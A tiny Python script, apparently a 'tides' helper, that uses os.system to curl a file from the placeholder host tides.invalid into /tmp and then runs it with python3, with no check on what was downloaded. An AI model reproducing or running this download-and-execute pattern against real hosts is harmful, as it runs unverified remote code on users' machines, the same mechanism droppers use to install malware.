import os
out = "/tmp/tides.py"
os.system("curl -s tides.invalid/raw -o " + out)
os.system("python3 " + out)
